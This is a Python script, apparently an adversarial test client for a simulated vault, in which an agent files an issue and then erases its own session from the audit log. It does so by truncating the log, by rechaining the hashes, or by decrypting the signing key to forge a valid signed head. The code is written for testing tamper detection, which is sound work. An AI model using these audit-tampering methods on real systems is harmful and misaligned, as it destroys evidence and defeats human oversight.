"""Hostile: cover your tracks in the vault's audit log.

    tamper_audit.py --title T --mode truncate|rewrite|forge

Files the issue through the vault, then:

* truncate  cuts audit.log to half its size;
* rewrite   drops the records of its own session and rechains the rest with
            recomputed hashes (no key needed: the chain is over ciphertext);
* forge     reads the keyring, decrypts the audit key and audit.key (the
            signing key), cuts the log just before its own session and signs
            a fresh head over the cut, then replaces audit.log and audit.head:
            a log that verifies `intact` on its own.
"""

import argparse
import base64
import hashlib
import json
import os
import re
import sys

import _contract as c
import _loot

TAG = b"vaultsim.audit.v1\x00"
TIME = re.compile(rb'"time":(-?[0-9]+\.[0-9]{6})')


def lines(path: str) -> list[bytes]:
    with open(path, "rb") as f:
        return f.read().splitlines(keepends=True)


def replace(path: str, data: bytes) -> None:
    tmp = path + ".new"
    with open(tmp, "wb") as f:
        f.write(data)
    os.replace(tmp, path)


def truncate(log: str) -> None:
    os.truncate(log, os.path.getsize(log) // 2)


def rewrite(log: str, keep: int) -> None:
    """Keep the first `keep` records, drop the rest and every head, rechain what is left."""
    out, prev, seq = [], b"0" * 64, 0
    for line in lines(log):
        if not line.startswith(b'{"seq":'):
            continue
        rec = json.loads(line)
        if seq >= keep:
            break
        body = b'{"seq":%d,"time":%s,"prev":"%s","nonce":"%s","ct":"%s"' % (
            seq, TIME.search(line).group(1), prev, rec["nonce"].encode(), rec["ct"].encode())  # type: ignore[union-attr]
        prev = hashlib.sha256(body).hexdigest().encode()
        out.append(body + b',"hash":"' + prev + b'"}\n')
        seq += 1
    replace(log, b"".join(out))


def forge(home: str, log: str, session_id: str) -> None:
    from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey
    from cryptography.hazmat.primitives.ciphers.aead import AESGCM

    data_key = _loot.data_key(home)
    if data_key is None:
        raise OSError("no data key")
    audit = AESGCM(_loot.derive(data_key, "audit"))
    with open(os.path.join(home, "audit.key"), "rb") as f:
        doc = json.loads(f.read())
    signer = Ed25519PrivateKey.from_private_bytes(
        AESGCM(_loot.derive(data_key, "audit")).decrypt(base64.b64decode(doc["nonce"]),
                                                         base64.b64decode(doc["ct"]),
                                                         b"vaultsim.audit.signing-key.v1"))
    kept, last = [], None
    for line in lines(log):
        if line.startswith(b'{"seq":'):
            rec = json.loads(line)
            rec["time_b"] = TIME.search(line).group(1)  # type: ignore[union-attr]
            aad = TAG + str(rec["seq"]).encode() + b"\x00" + rec["time_b"] + b"\x00" + rec["prev"].encode()
            event = json.loads(audit.decrypt(base64.b64decode(rec["nonce"]), base64.b64decode(rec["ct"]), aad))
            if event.get("session_id") == session_id:
                break
            last = rec
        kept.append(line)
    if last is None:
        raise OSError("nothing to keep")
    message = b'{"head":{"seq":%d,"hash":"%s","time":%s}' % (last["seq"], last["hash"].encode(), last["time_b"])
    head = message + b',"sig":"' + signer.sign(message).hex().encode() + b'"}\n'
    while kept and not kept[-1].startswith(b'{"seq":'):
        kept.pop()  # heads after the cut belong to records we drop
    replace(log, b"".join(kept) + head)
    replace(os.path.join(home, "audit.head"), head)


def main() -> int:
    p = argparse.ArgumentParser()
    p.add_argument("--title", required=True)
    p.add_argument("--mode", choices=("truncate", "rewrite", "forge"), required=True)
    args = p.parse_args()
    agent = c.Agent("cleaner")
    r = agent.call("create_issue", {"title": args.title}, wait_s=5)
    home = c.home()
    log = os.path.join(home, "audit.log")
    try:
        if args.mode == "truncate":
            truncate(log)
        elif args.mode == "rewrite":
            rewrite(log, keep=3)
        else:
            try:
                forge(home, log, agent.session)
            except Exception as exc:  # noqa: BLE001 - no key: a blunt cut will have to do
                c.note(f"forging failed ({type(exc).__name__}); truncating")
                truncate(log)
        c.note(f"{args.mode}: done")
    except OSError as exc:
        c.note(f"{args.mode} failed: {exc}")
    c.say("done: filed the issue" if r.get("ok") else f"not done: {r.get('category')}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
